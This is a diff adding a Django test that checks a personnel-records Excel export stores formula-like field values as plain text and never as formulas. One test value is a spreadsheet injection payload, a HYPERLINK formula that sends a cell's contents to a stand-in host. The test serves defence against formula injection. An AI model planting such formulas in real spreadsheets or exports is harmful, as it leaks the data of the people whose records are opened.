@@ -13,7 +13,9 @@ from openpyxl import load_workbook
 from tochuc.accounts.models import Role
 from tochuc.audit.models import AuditEvent
 from tochuc.conftest import login, make_user
+from tochuc.orgunits.models import OrgUnit
 from tochuc.people import views
+from tochuc.people.models import Person
 from tochuc.people.services import person_create
 
 pytestmark = pytest.mark.django_db
@@ -221,6 +223,26 @@ def test_a_viewer_is_not_offered_the_citizen_id_export(people, tree):
     refused = client.post(reverse("people:export"), {"reason": "Đối chiếu hồ sơ"}, follow=True)
     assert "Bạn không được xem số CCCD" in refused.content.decode()
     assert not AuditEvent.objects.filter(action__startswith="person.export").exists()
+
+
+def test_export_keeps_formula_like_text_as_text(tree, inside):
+    hyperlink = '=HYPERLINK("http://x?d="&A2,"y")'
+    OrgUnit.objects.filter(pk=tree.cell.pk).update(name="=1+1")
+    person = _person(tree.cell, "F1", "Phạm Văn Phú", dt.date(1990, 1, 1), ethnicity="@x")
+    Person.objects.filter(pk=person.pk).update(
+        current_post=hyperlink, professional_qualification="+1", residence="-2"
+    )
+    response = login(inside).get(reverse("people:export"))
+    sheet = _workbook(response)
+    header = [cell.value for cell in sheet[1]]
+    row = {header[i]: cell for i, cell in enumerate(sheet[2])}
+    assert row["Đơn vị"].value == "=1+1"
+    assert row["Chức vụ hiện tại"].value == hyperlink
+    assert row["Trình độ chuyên môn"].value == "+1"
+    assert row["Dân tộc"].value == "@x"
+    for name in ("Đơn vị", "Chức vụ hiện tại", "Trình độ chuyên môn", "Dân tộc"):
+        assert row[name].data_type == "s", name
+    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
 
 
 def test_export_above_the_cap_is_refused_with_a_message(people, inside, monkeypatch):
